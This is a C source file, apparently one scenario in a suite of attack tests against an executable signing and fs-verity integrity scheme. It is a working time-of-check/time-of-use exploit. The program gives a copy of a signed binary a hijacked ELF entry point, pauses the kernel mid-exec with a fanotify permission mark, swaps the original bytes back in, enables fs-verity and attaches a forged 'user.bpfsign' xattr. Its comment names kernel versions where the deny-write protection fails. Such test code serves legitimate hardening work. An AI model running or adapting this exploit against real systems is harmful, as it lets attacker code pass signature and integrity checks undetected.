/* SPDX-License-Identifier: GPL-2.0-or-later */

/*
 * S14: mid_exec FILE ALICE CLAIM
 *
 * Executes FILE, which is made of ALICE's bytes but for an ELF header that enters at other_door().
 * When the kernel has read that header and asks for more (a FAN_ACCESS_PERM mark stops it there, and
 * voids the deny-write of an executable on 6.18 and 7.3), FILE is given ALICE's bytes, fs-verity and
 * the xattr in the file CLAIM. Exit status: that of what ran; 3 when the kernel refused the writing.
 */

#include "attack.h"

#include <elf.h>
#include <sys/fanotify.h>
#include <sys/xattr.h>

static uint8_t *read_whole(const char *path, size_t *ret_size)
{
	struct stat st;
	int fd = open(path, O_RDONLY);

	need(fd >= 0 && fstat(fd, &st) == 0, path);
	uint8_t *data = malloc((size_t)st.st_size);
	need(data && read(fd, data, (size_t)st.st_size) == st.st_size, path);
	close(fd);
	*ret_size = (size_t)st.st_size;
	return data;
}

static uint64_t symbol(const uint8_t *data, const char *name)
{
	const Elf64_Ehdr *header = (const void *)data;
	const Elf64_Shdr *sections = (const void *)(data + header->e_shoff);

	for (int i = 0; i < header->e_shnum; i++) {
		if (sections[i].sh_type != SHT_SYMTAB)
			continue;
		const Elf64_Sym *symbols = (const void *)(data + sections[i].sh_offset);
		const char *names = (const char *)data + sections[sections[i].sh_link].sh_offset;
		for (size_t k = 0; k < sections[i].sh_size / sizeof(*symbols); k++)
			if (strcmp(names + symbols[k].st_name, name) == 0)
				return symbols[k].st_value;
	}
	need(0, "no such symbol");
	return 0;
}

static void write_whole(const char *path, const uint8_t *data, size_t size)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

	need(fd >= 0 && write(fd, data, size) == (ssize_t)size && fsync(fd) == 0, path);
	close(fd);
}

/* What the kernel reads next is another file. */
static int replace(const char *path, const uint8_t *data, size_t size, const char *claim_path)
{
	size_t claim_size;
	uint8_t *claim = read_whole(claim_path, &claim_size);
	int fd = open(path, O_WRONLY);

	if (fd < 0)
		return -errno;
	need(pwrite(fd, data, size, 0) == (ssize_t)size && fsync(fd) == 0, "rewrite");
	close(fd);
	fd = open(path, O_RDONLY);
	need(fd >= 0, path);
	if (enable_verity(fd) < 0)
		return -errno;
	need(fsetxattr(fd, "user.bpfsign", claim, claim_size, 0) == 0, "fsetxattr");
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	struct fanotify_event_metadata event;
	int status, events = 0, r = 0;
	size_t size;

	need(argc > 3, "usage: mid_exec FILE ALICE CLAIM");
	uint8_t *alice = read_whole(argv[2], &size), *eve = malloc(size);
	need(eve != NULL, "malloc");
	memcpy(eve, alice, size);
	((Elf64_Ehdr *)eve)->e_entry = symbol(alice, "other_door");
	write_whole(argv[1], eve, size);

	int fan = fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY | O_CLOEXEC);
	need(fan >= 0, "fanotify_init");
	need(fanotify_mark(fan, FAN_MARK_ADD, FAN_ACCESS_PERM, AT_FDCWD, argv[1]) == 0, "fanotify_mark");
	pid_t child = fork();
	if (child == 0) {
		execl(argv[1], argv[1], "who", NULL);
		_exit(COULD_NOT_TRY);
	}
	while (read(fan, &event, sizeof(event)) == sizeof(event)) {
		events++;
		if (events == 2) { /* the header was the first */
			r = replace(argv[1], alice, size, argv[3]);
			need(fanotify_mark(fan, FAN_MARK_FLUSH, 0, AT_FDCWD, NULL) == 0, "flush");
		}
		struct fanotify_response response = {event.fd, FAN_ALLOW};
		need(write(fan, &response, sizeof(response)) == sizeof(response), "answer");
		close(event.fd);
		if (events == 2)
			break;
	}
	close(fan);
	need(waitpid(child, &status, 0) == child, "waitpid");
	if (r < 0) {
		printf("mid_exec: %s\n", strerrorname_np(-r));
		return KERNEL_REFUSED;
	}
	if (!WIFEXITED(status))
		printf("mid_exec: signal %d\n", WTERMSIG(status));
	return WIFEXITED(status) ? WEXITSTATUS(status) : KERNEL_REFUSED;
}
